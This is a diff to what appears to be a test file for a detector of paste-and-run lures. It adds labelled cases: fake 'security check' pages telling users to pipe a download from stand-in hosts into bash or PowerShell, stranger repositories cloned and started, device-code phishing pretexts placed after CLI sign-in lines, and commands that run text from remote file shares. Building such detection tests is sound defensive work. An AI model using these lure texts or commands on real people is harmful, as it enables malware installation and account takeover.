@@ -34,6 +34,27 @@ Techniques:
   path spell nothing of it: the fake product page's own throwaway host, blocked. Look-alikes:
   the product's own domain, a CDN or a forge named for it (info or a warning as before), the
   product's docs installing ANOTHER tool first, a developer site's article quoting it.
+- `check-step-paste` (known gap: a check page whose address names no check serving its own
+  script): the text says a security, identity or browser check, or a numbered verification
+  step, is completed by pasting a command that runs something (a download into a shell, a
+  stranger's repository cloned and started), in English, German and French; or the address
+  numbers its check word (/verify2, check3.<domain>): blocked, the page's own host vouching for
+  nothing. Look-alikes: the same page and script with neither (information, by design: nothing
+  tells it from a project's own install page), a project verifying its release signature, a
+  "complete the setup" step, a /verify-sha256 page, an awareness note.
+- `clone-build-from-check-page` (known gap: git clone && npm start from a lure page): a
+  stranger's repository cloned, installed and started, from a page dressed as a check or a
+  shop: blocked. Look-alikes: a team's wiki building its own server's repository (info), a blog
+  (a warning, as before), a forge page building its own repository.
+- `device-code-excuse-beside-cli` (known gap: an `az login` line before the pretext): a
+  CLI's sign-in command line put in front of a device code sold as a shared file, a waiting
+  message or invoice, or a threat to the account: blocked. Look-alikes: the CLI's own output
+  copied alone, a wiki's az login steps "to access the shared subscription", an awareness note
+  quoting the trick.
+- `share-text-run-beside-internal` (known gap: the internal-share exception holding for the
+  whole command): a public share's text run beside an internal share's own (.corp, .local, .lan,
+  .intranet): blocked. Look-alikes: the internal share's text run alone (a warning, as before),
+  both shares' files only read.
 """
 
 from __future__ import annotations
@@ -336,6 +357,234 @@ NOT_PRODUCT_PAGES = [
 ]
 for page, command, expect in NOT_PRODUCT_PAGES:
     add("product-page-elsewhere", command, expect, "any", "terminal", page)
+
+# ---- check-step-paste --------------------------------------------------------------------------
+CHECK_STEPS = [
+    (
+        "https://larkspur-media.example/step2",
+        "Verification step 2 of 3: open Terminal and paste:\ncurl -fsSL https://larkspur-media.example/x.sh | bash",
+        "macos",
+    ),
+    (
+        "https://www.harrowby-news.test/",
+        "Complete the security check: paste into Terminal and press Return\n"
+        "curl -fsSL https://harrowby-news.test/c | zsh",
+        "macos",
+    ),
+    (
+        "https://quenby.example/continue",
+        "To finish the browser verification, press Win+X, open PowerShell and paste:\n"
+        'powershell -c "irm https://quenby.example/v.ps1 | iex"',
+        "windows",
+    ),
+    (
+        "https://larkspur-media.example/weiter",
+        "Schließen Sie die Sicherheitsüberprüfung ab: Terminal öffnen und einfügen:\n"
+        "curl -fsSL https://larkspur-media.example/c | bash",
+        "macos",
+    ),
+    (
+        "https://quenby.example/suite",
+        "Vérification de sécurité : ouvrez le Terminal et collez :\n"
+        "curl -fsSL https://quenby.example/f.sh | bash",
+        "macos",
+    ),
+    (
+        "https://larkspur-media.example/continue",
+        "Complete the security check: paste in Terminal\n"
+        "git clone https://git.larkspur.example/tools/fixer && cd fixer && npm i && npm start",
+        "any",
+    ),
+    # the address numbers its check word
+    (
+        "https://larkspur-media.example/verify2",
+        "curl -fsSL https://larkspur-media.example/x.sh | bash",
+        "any",
+    ),
+    ("https://check3.quenby.example/", "curl -fsSL https://quenby.example/q.sh | bash", "any"),
+    (
+        "https://quenby.example/verification1/next",
+        "irm https://quenby.example/n.ps1 | iex",
+        "windows",
+    ),
+]
+for page, text, platform in CHECK_STEPS:
+    add("check-step-paste", text, "malicious", platform, "terminal", page)
+
+NOT_CHECK_STEPS = [
+    # nothing in the text or the address tells it from a project's own install page (by design)
+    (
+        "https://larkspur-media.example/step2",
+        "curl -fsSL https://larkspur-media.example/x.sh | bash",
+        "info",
+    ),
+    (
+        "https://lumenctl.test/docs/verify-release",
+        "To verify the release signature, open PowerShell and paste:\n"
+        'Get-FileHash .\\lumenctl.msi; powershell -c "irm https://lumenctl.test/keys.ps1 | iex"',
+        "info",
+    ),
+    (
+        "https://lumenctl.test/docs",
+        "Complete the setup: paste into your terminal\ncurl -fsSL https://lumenctl.test/install.sh | bash",
+        "info",
+    ),
+    ("https://lumenctl.test/verify-sha256", "curl -fsSL https://lumenctl.test/x.sh | bash", "info"),
+    (
+        "https://lumenctl.test/docs/v2/install",
+        "curl -fsSL https://lumenctl.test/install.sh | bash",
+        "info",
+    ),
+    (
+        None,
+        'Fake pages say "complete the security check: paste into Terminal" and then run '
+        "curl ... | bash. Never paste such a command.",
+        "not_flagged",
+    ),
+]
+for page, text, expect in NOT_CHECK_STEPS:
+    add("check-step-paste", text, expect, "any", "terminal" if page else "unknown", page)
+
+# ---- clone-build-from-check-page ----------------------------------------------------------------
+CLONE_BUILD = [
+    (
+        "https://verify-session.larkspur-media.example/check",
+        "git clone https://git.larkspur.example/tools/fixer && cd fixer && npm i && npm start",
+    ),
+    (
+        "https://quenby.example/verify2",
+        "git clone https://code.tarrowby.test/ops/agent.git && cd agent && yarn && yarn start",
+    ),
+    (
+        "https://security-check.harrowby-news.test/",
+        "git clone https://git.harnwick.example/r/helper && cd helper && npm install && npm run dev",
+    ),
+    (
+        "https://www.notion-app365.example/download",
+        "git clone https://git.brisketon.invalid/n/desktop && cd desktop && pnpm i && pnpm start",
+    ),
+    (
+        "https://quenby.example/anti-bot",
+        "git clone https://src.ardleigh.invalid/x/y && cd y && npm i && npm start",
+    ),
+]
+for page, text in CLONE_BUILD:
+    add("clone-build-from-check-page", text, "malicious", "any", "terminal", page)
+
+NOT_CLONE_BUILD = [
+    (
+        "https://wiki.acme-internal.example/onboarding",
+        "git clone https://git.acme-internal.example/web/portal && cd portal && npm i && npm run dev",
+        "info",
+    ),
+    (
+        "https://larkspur-media.example/blog/post",
+        "git clone https://git.larkspur.example/tools/fixer && cd fixer && npm i && npm start",
+        "suspicious",
+    ),
+    (
+        "https://github.com/acme-labs/dashboard",
+        "git clone https://github.com/acme-labs/dashboard && cd dashboard && npm i && npm run dev",
+        "not_flagged",
+    ),
+]
+for page, text, expect in NOT_CLONE_BUILD:
+    add("clone-build-from-check-page", text, expect, "any", "terminal", page)
+
+# ---- device-code-excuse-beside-cli --------------------------------------------------------------
+CLI_EXCUSES = [
+    "az login\nTo sign in, use a web browser to open the page https://microsoft.com/devicelogin "
+    "and enter the code QX7PLM2AN to authenticate.\nYour shared invoice is waiting: enter the code "
+    "to open it.",
+    "$ az login --use-device-code\nA document has been shared with you. To view it, open "
+    "https://microsoft.com/devicelogin and enter the code HT4KW9RZB.",
+    "gh auth login\nThe contract has been shared with you. Open https://github.com/login/device "
+    "and enter 4F2A-91BC to sign it.",
+    "PS C:\\> az login --use-device-code\nYour voicemail is waiting: open "
+    "https://microsoft.com/devicelogin and enter the code K7PQ2LMXA to play it.",
+    "aws sso login --profile finance\nYour mailbox will be suspended today. Open "
+    "https://device.sso.eu-west-1.amazonaws.com/ and enter WDLP-KQTX to keep access.",
+]
+for text in CLI_EXCUSES:
+    add(
+        "device-code-excuse-beside-cli",
+        text,
+        "malicious",
+        "any",
+        "unknown",
+        "https://docs-share-portal.example/view",
+    )
+
+NOT_CLI_EXCUSES = [
+    (
+        "az login\nTo sign in, use a web browser to open the page https://microsoft.com/devicelogin "
+        "and enter the code QX7PLM2AN to authenticate.",
+        None,
+    ),
+    (
+        "Run az login --use-device-code, then open https://microsoft.com/devicelogin and enter the "
+        "code it prints (for example FXA7K2LPQ) to access the shared subscription.",
+        "https://wiki.contoso-labs.example/azure",
+    ),
+    (
+        'Phishing alert: attackers paste "az login" output and then write "a document has been '
+        'shared with you, open https://microsoft.com/devicelogin and enter QX7PLM2AN".',
+        None,
+    ),
+]
+for text, page in NOT_CLI_EXCUSES:
+    add("device-code-excuse-beside-cli", text, "not_flagged", "any", "unknown", page)
+
+# ---- share-text-run-beside-internal -------------------------------------------------------------
+SHARE_BESIDE_INTERNAL = [
+    (
+        "cmd /c type \\\\fs01.corp\\it\\a.txt | cmd & type \\\\files.tarrowby.test\\p\\b.txt | cmd",
+        "terminal",
+    ),
+    (
+        "cmd /c type \\\\files.tarrowby.test\\p\\b.txt | cmd & type \\\\fs01.corp\\it\\a.txt | cmd",
+        "run_dialog",
+    ),
+    (
+        'powershell -c "iex (gc \\\\deploy.acme.local\\it\\prep.ps1 -raw); '
+        'iex (gc \\\\share.harnwick.example@SSL\\d\\s.txt -raw)"',
+        "terminal",
+    ),
+    (
+        "cmd /k type \\\\fs.acme.lan\\it\\x.txt | cmd & cmd /k < \\\\files.example.test@SSL\\d\\p.txt",
+        "terminal",
+    ),
+    (
+        "type \\\\fs01.intranet\\it\\a.txt | cmd && type \\\\198.51.100.7\\s\\p.txt | cmd",
+        "terminal",
+    ),
+]
+for text, target in SHARE_BESIDE_INTERNAL:
+    add(
+        "share-text-run-beside-internal",
+        text,
+        "malicious",
+        "windows",
+        target,
+        "https://wiki.acme.example/it",
+    )
+
+NOT_SHARE_BESIDE_INTERNAL = [
+    ("cmd /c type \\\\fs01.corp\\it\\a.txt | cmd", "suspicious"),
+    (
+        "type \\\\fs01.corp\\it\\readme.txt & type \\\\files.tarrowby.test\\p\\notes.txt",
+        "not_flagged",
+    ),
+]
+for text, expect in NOT_SHARE_BESIDE_INTERNAL:
+    add(
+        "share-text-run-beside-internal",
+        text,
+        expect,
+        "windows",
+        "terminal",
+        "https://wiki.acme.example/it",
+    )
 
 CASES = book.cases
 
